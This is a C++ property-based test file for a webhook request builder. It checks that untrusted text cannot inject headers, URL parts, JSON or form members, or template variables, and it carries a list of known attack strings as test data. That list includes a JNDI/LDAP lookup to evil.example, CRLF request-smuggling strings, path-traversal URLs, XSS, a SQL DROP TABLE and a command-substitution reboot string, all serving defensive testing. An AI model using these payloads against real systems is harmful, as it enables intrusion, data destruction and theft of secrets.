// SPDX-License-Identifier: Apache-2.0
// Any text from a printer, such as the name of a file, stays one value. It cannot add a header, a path segment, a
// member or a pair.
#include <Poco/URI.h>
#include <gtest/gtest.h>
#include <rapidcheck/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "herald/json.h"
#include "herald/testing/hostile_events.h"
#include "request_builder.h"
#include "webhook_sink.h"

namespace herald::webhook {
namespace {

/// Any bytes, and often dangerous ones.
rc::Gen<std::string> hostileText() {
  using std::string_literals::operator""s;
  const auto hostile = test::hostileTexts();
  return rc::gen::oneOf(rc::gen::arbitrary<std::string>(), rc::gen::elementOf(hostile),
                        rc::gen::container<std::string>(rc::gen::elementOf("a\"\\/?#&=+% @{}.|:;,\r\n\t\0"s)));
}

/// The text as a template sees it: valid UTF-8.
std::string clean(const std::string& text) { return jsonToText(jsonQuote(text)); }

HttpRequest requestOf(Settings::Values values, const std::string& text) {
  values.try_emplace("url", "http://h/");
  values["apiSecret"] = "s3cr3t";
  values["deviceIdentifier"] = text;
  Event event = test::event("T", JsonObject().add("name", text).text());
  return RequestBuilder(test::settingsFor(WebhookSink(), values))
      .build(test::attempt(event, "<@name>"), event.time)
      .request;
}

/// The text adds no header, and ends none.
bool staysInItsHeader(const std::string& text) {
  const HttpRequest request = requestOf({{"headers.X-A", "a @name"}, {"headers.X-B", "@deviceIdentifier"}}, text);
  const auto fits = [](char c) { return (static_cast<unsigned char>(c) >= ' ' || c == '\t') && c != 127; };
  return request.headers.size() == 5u &&  // with content-type, webhook-id and webhook-timestamp
         std::all_of(request.headers.begin(), request.headers.end(),
                     [&](const auto& header) { return std::all_of(header.second.begin(), header.second.end(), fits); });
}

/// The text adds no part to the URL, and leads to no other host.
bool staysInItsPartOfTheUrl(const std::string& text) {
  const std::string url = requestOf({{"url", "http://h/a/@{name}/b?c=@{name}&d=1#e"}}, text).url;
  const Poco::URI::QueryParameters expected{{"c", clean(text)}, {"d", "1"}};
  return std::count(url.begin(), url.end(), '/') == 5 && std::count(url.begin(), url.end(), '?') == 1 &&
         std::count(url.begin(), url.end(), '#') == 1 && Poco::URI(url).getQueryParameters() == expected &&
         Poco::URI(url).getAuthority() == "h";
}

/// The text is one string of the JSON, whole.
bool staysAValueOfJson(const std::string& text) {
  const std::string body =
      requestOf({{"data", R"({"a":"@name","b":"x @{name} y","c":["@message"],"d":"@extra"})"}}, text).body;
  return jsonMembers(body).size() == 4u && jsonToText(jsonAt(body, "a")) == clean(text) &&
         jsonToText(jsonAt(body, "b")) == "x " + clean(text) + " y" &&
         jsonToText(jsonAt(body, "c.0")) == "<" + clean(text) + ">" &&
         jsonToText(jsonAt(body, "d.name")) == clean(text);
}

/// The text is one value of the form, whole.
bool staysAValueOfAForm(const std::string& text) {
  const std::string body =
      requestOf({{"contentType", "FORM"}, {"data", R"({"a":"@name","b":"x @name","c":1})"}}, text).body;
  const Poco::URI::QueryParameters expected{{"a", clean(text)}, {"b", "x " + clean(text)}, {"c", "1"}};
  return Poco::URI("?" + body).getQueryParameters() == expected;
}

/// What looks like a variable in the text stays text.
bool readsNoVariable(const std::string& text) {
  const HttpRequest request =
      requestOf({{"url", "http://h/@name"}, {"headers.X", "@name"}, {"data", R"({"m":"@message"})"}}, text);
  const std::string all = request.url + headerValue(request.headers, "X").data() + request.body;
  return all.find("s3cr3t") == std::string::npos;
}

HttpRequest buildCloudEvent(const std::string& mode, const std::string& text) {
  const Settings settings = test::settingsFor(
      WebhookSink(),
      {{"url", "http://h/"}, {"format", "cloudevents"}, {"cloudevents.mode", mode}, {"headers.ce-note", "@name"}});
  Event event = test::event("T", JsonObject().add("name", text).text());
  event.device = event.subject = event.type = text;
  return RequestBuilder(settings).build(test::attempt(event), event.time).request;
}

/// The text stays in its attribute of a CloudEvent: no header ends, and the document keeps its members.
bool staysInItsAttribute(const std::string& text) {
  const HttpRequest binary = buildCloudEvent("binary", text);
  const auto fits = [](char c) { return (static_cast<unsigned char>(c) >= ' ' || c == '\t') && c != 127; };
  const bool areHeaders = std::all_of(binary.headers.begin(), binary.headers.end(), [&](const auto& header) {
    return std::all_of(header.second.begin(), header.second.end(), fits);
  });
  const std::string whole = buildCloudEvent("structured", text).body;
  const std::size_t members = text.empty() ? 8 : 9;  // without a subject
  return areHeaders && binary.headers.size() == members + 2 && jsonError(whole).empty() &&
         jsonMembers(whole).size() == members && jsonToText(jsonAt(whole, "type")) == clean(text) &&
         jsonToText(jsonAt(whole, "device")) == clean(text) && jsonToText(jsonAt(whole, "data.name")) == clean(text);
}

/// A service's answer to a step stays a value in the next request.
bool staysAValueOfTheNextRequest(const std::string& text) {
  const Settings settings = test::settingsFor(WebhookSink(), {{"url", "http://h/a/@{step1.id}/b?c=@step1.id"},
                                                              {"headers.X-A", "@step1.id"},
                                                              {"data", R"({"id":"@step1.id"})"}});
  const Event event = test::event("T");
  const HttpRequest request = RequestBuilder(settings)
                                  .build(test::attempt(event), event.time,
                                         JsonObject().addRaw("step1", JsonObject().add("id", text).text()).text())
                                  .request;
  const auto fits = [](char c) { return (static_cast<unsigned char>(c) >= ' ' || c == '\t') && c != 127; };
  const std::string_view header = headerValue(request.headers, "X-A");
  return request.headers.size() == 4u && std::all_of(header.begin(), header.end(), fits) &&
         Poco::URI(request.url).getAuthority() == "h" && std::count(request.url.begin(), request.url.end(), '/') == 5 &&
         Poco::URI(request.url).getQueryParameters() == Poco::URI::QueryParameters{{"c", clean(text)}} &&
         jsonMembers(request.body).size() == 1u && jsonToText(jsonAt(request.body, "id")) == clean(text);
}

RC_GTEST_PROP(Injection, IntoACloudEvent, ()) { RC_ASSERT(staysInItsAttribute(*hostileText())); }

RC_GTEST_PROP(Injection, OfTheAnswerOfAStep, ()) { RC_ASSERT(staysAValueOfTheNextRequest(*hostileText())); }

RC_GTEST_PROP(Injection, IntoAHeader, ()) { RC_ASSERT(staysInItsHeader(*hostileText())); }

RC_GTEST_PROP(Injection, IntoTheUrl, ()) { RC_ASSERT(staysInItsPartOfTheUrl(*hostileText())); }

RC_GTEST_PROP(Injection, IntoJson, ()) { RC_ASSERT(staysAValueOfJson(*hostileText())); }

RC_GTEST_PROP(Injection, IntoAForm, ()) { RC_ASSERT(staysAValueOfAForm(*hostileText())); }

RC_GTEST_PROP(Injection, OfAVariable, ()) {
  RC_ASSERT(readsNoVariable(*hostileText() + "@apiSecret @{apiSecret} @message"));
}

/// What attackers send, by the language that it is meant for.
const std::vector<std::string> kPayloads{
    // templates: Herald's own, and those of others
    "@apiSecret",
    "@{apiSecret}",
    "@{apiSecret|x}",
    "@{a|@{apiSecret}}",
    "@@apiSecret",
    "@@@apiSecret",
    "@message",
    "@{message}",
    "@extra.name",
    "@{",
    "@{}",
    "@{name",
    "@{name|@name}",
    "${apiSecret}",
    "${system.env.HOME}",
    "{{apiSecret}}",
    "{{7*7}}",
    "{% include 'x' %}",
    "<%= apiSecret %>",
    "#{apiSecret}",
    "%(apiSecret)s",
    "%s%n%x",
    "${jndi:ldap://evil.example/a}",
    // heads
    "\r\nX-Injected: 1",
    "\nX-Injected: 1",
    "\rX-Injected: 1",
    "\r\n\r\n{\"injected\":1}",
    "\r\nContent-Length: 0\r\n\r\nGET / HTTP/1.1\r\n\r\n",
    "\xc4\x8d\xc4\x8aX-Injected: 1",
    "a\tb",
    "\xe2\x80\xa8X-Injected: 1",
    // URLs
    "/",
    "../../admin",
    "..%2f..%2fadmin",
    "//evil.example/",
    "\\\\evil.example\\",
    "@evil.example",
    ":80@evil.example/",
    "?admin=1",
    "&d=2",
    ";d=2",
    "#",
    "%23",
    "%00",
    "%zz",
    "%",
    "http://evil.example/",
    "javascript:alert(1)",
    "a b+c",
    // JSON and forms
    "\"",
    "\\",
    "\\\"",
    "\",\"d\":\"2",
    "\"},{\"d\":\"2",
    "\\u0022",
    "&c=2&c=3",
    "=",
    "+",
    // pages, shells and databases behind the receiver: as they are
    "<script>alert(1)</script>",
    "'; DROP TABLE jobs; --",
    "$(reboot)`reboot`|reboot;",
};

TEST(Injection, OfEveryKnownPayload) {
  EXPECT_GE(kPayloads.size(), 61u);
  for (const auto& payload : kPayloads) {
    for (const auto& text : {payload, "a" + payload, payload + "z", payload + payload}) {
      EXPECT_TRUE(staysInItsHeader(text)) << text;
      EXPECT_TRUE(staysInItsPartOfTheUrl(text)) << text;
      EXPECT_TRUE(staysAValueOfJson(text)) << text;
      EXPECT_TRUE(staysAValueOfAForm(text)) << text;
      EXPECT_TRUE(readsNoVariable(text)) << text;
      EXPECT_TRUE(staysInItsAttribute(text)) << text;
      EXPECT_TRUE(staysAValueOfTheNextRequest(text)) << text;
    }
  }
}

}  // namespace
}  // namespace herald::webhook
